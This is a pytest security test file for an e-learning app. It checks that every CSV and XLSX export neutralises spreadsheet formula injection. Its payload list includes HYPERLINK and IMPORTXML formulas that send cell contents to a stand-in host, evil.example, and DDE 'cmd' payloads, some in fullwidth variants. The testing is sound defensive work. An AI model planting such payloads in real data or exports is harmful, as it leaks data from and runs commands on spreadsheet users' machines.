"""Formula injection: text typed by anyone (names, unit names, course titles, training titles,
organisers, comments, competency tags) never reaches a spreadsheet as a formula, in every CSV
and XLSX file the app writes."""
import csv
import io
import json
from datetime import date

import openpyxl
import pytest
from sqlalchemy import select

from elearn.accounts import operations
from elearn.certificates.issuing import issue_certificate
from elearn.extensions import db
from elearn.models import (
    CompetencyRequirement,
    Course,
    Enrolment,
    ExternalTraining,
    SurveyResponse,
    Unit,
    User,
)
from elearn.records import operations as external
from elearn.timeutil import local_date, utcnow
from tests.conftest import PASSWORD
from tests.coursefiles import course_files
from tests.security.conftest import signed_in

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
    # Fullwidth forms, which a spreadsheet may fold to = + - @.
    "\uff1d1+1",
    "\uff0b1+cmd|' /C calc'!A0",
    "\uff0d2+3+cmd|' /C calc'!A0",
    "\uff20SUM(1+1)*cmd|' /C calc'!A0",
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.fixture
def formulas(app, world, make_course):
    """Per formula: a unit, a person, a course they completed with a certificate, a verified
    external training, a survey comment and a competency requirement, all named by it."""
    year = local_date(utcnow()).year
    people = []
    for n, formula in enumerate(FORMULAS):
        files = course_files(f"rumus-{n}", lessons=1, quiz=False)
        text = files["course.md"].decode().replace("title: Etika Pelayanan di Kantor Kelurahan",
                                                   f"title: {json.dumps(formula)}")
        text = text.replace("organiser: BKPSDM Kota Pematangsiantar", f"organiser: {json.dumps(formula)}")
        files["course.md"] = text.encode()
        make_course(f"rumus-{n}", files=files)
    with app.app_context():
        admin = db.session.get(User, world["admin"].id)
        for n, formula in enumerate(FORMULAS):
            unit = Unit(code=f"RUMUS{n}", name=formula)
            db.session.add(unit)
            db.session.flush()
            user = operations.create_user(admin, name=formula, nip=f"19850312201001{1000 + n}", password=PASSWORD,
                                          unit_id=unit.id, position=formula)
            course = db.session.scalar(select(Course).where(Course.slug == f"rumus-{n}"))
            enrolment = Enrolment(user_id=user.id, course_id=course.id, completed_at=utcnow())
            db.session.add(enrolment)
            db.session.flush()
            issue_certificate(enrolment, course.current_version, utcnow())
            db.session.add_all([
                SurveyResponse(enrolment_id=enrolment.id, relevance=5, material=5, applicability=5, comment=formula),
                CompetencyRequirement(tag=formula[:64], created_by_id=admin.id),
            ])
            training = ExternalTraining(
                user_id=user.id, title=formula, training_type=8, organiser=formula, competency="teknis",
                started_on=date(year, 1, 5), ended_on=date(year, 1, 6), jp=2, certificate_number=f"RUMUS/{n}",
                evidence=b"%PDF-1.4", evidence_name="b.pdf", evidence_type="application/pdf", evidence_size=8)
            db.session.add(training)
            db.session.flush()
            external.verify(admin, training, utcnow())
            people.append(user.id)
        db.session.commit()
    return {"people": people, "year": year}


def _formula_cells(rows) -> list[str]:
    return [cell for row in rows for cell in row if isinstance(cell, str) and cell.startswith(STARTS)]


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def _csv_files(world, formulas):
    year = formulas["year"]
    period = {"from": f"{year}-01-01", "to": local_date(utcnow()).isoformat()}
    files = [(f"/hr/people/{person}/record.csv", {}) for person in formulas["people"]]
    files += [(f"/hr/reports/{report}.csv", {}) for report in ("completions", "jp", "units", "courses")]
    files += [("/hr/reports/completions.csv", period), ("/hr/reports/siasn.csv", period),
              ("/evaluation/units.csv", {}), ("/hr/needs/matrix.csv", {})]
    files += [(f"/evaluation/courses/rumus-{n}.csv", {}) for n in range(len(FORMULAS))]
    return files


def test_no_csv_cell_starts_like_a_formula(app, world, formulas):
    client = signed_in(app, world["admin"])
    failures = []
    seen = set()
    for url, query in _csv_files(world, formulas):
        rows = _csv(client.get(url, query_string=query))
        failures += [f"{url}: {cell!r}" for cell in _formula_cells(rows)]
        cells = {cell for row in rows for cell in row}
        if not {"'" + f for f in FORMULAS} & cells:
            failures.append(f"{url}: carries none of the typed text (the check would prove nothing)")
        seen |= cells
    assert failures == []
    # The control: the typed text is in the files, neutralised with a leading apostrophe.
    assert "'" + FORMULAS[0] in seen and "'" + FORMULAS[2] in seen
    assert {"'" + f for f in FORMULAS if f.startswith(("\uff1d", "\uff0b", "\uff0d", "\uff20"))} <= seen


@pytest.mark.parametrize("report", ["completions", "jp", "units", "courses"])
def test_no_xlsx_cell_is_a_formula_or_a_link(app, world, formulas, report):
    client = signed_in(app, world["admin"])
    response = client.get(f"/hr/reports/{report}.xlsx")
    assert response.status_code == 200
    data = response.data
    response.close()
    book = openpyxl.load_workbook(io.BytesIO(data))
    failures, texts = [], set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or cell.hyperlink is not None:
                    failures.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    assert failures == []
    # Stored as text, as typed (xlsx marks the type; nothing needs an apostrophe).
    if report in ("completions", "jp", "units"):
        assert texts & set(FORMULAS) or {"'" + f for f in FORMULAS} & texts
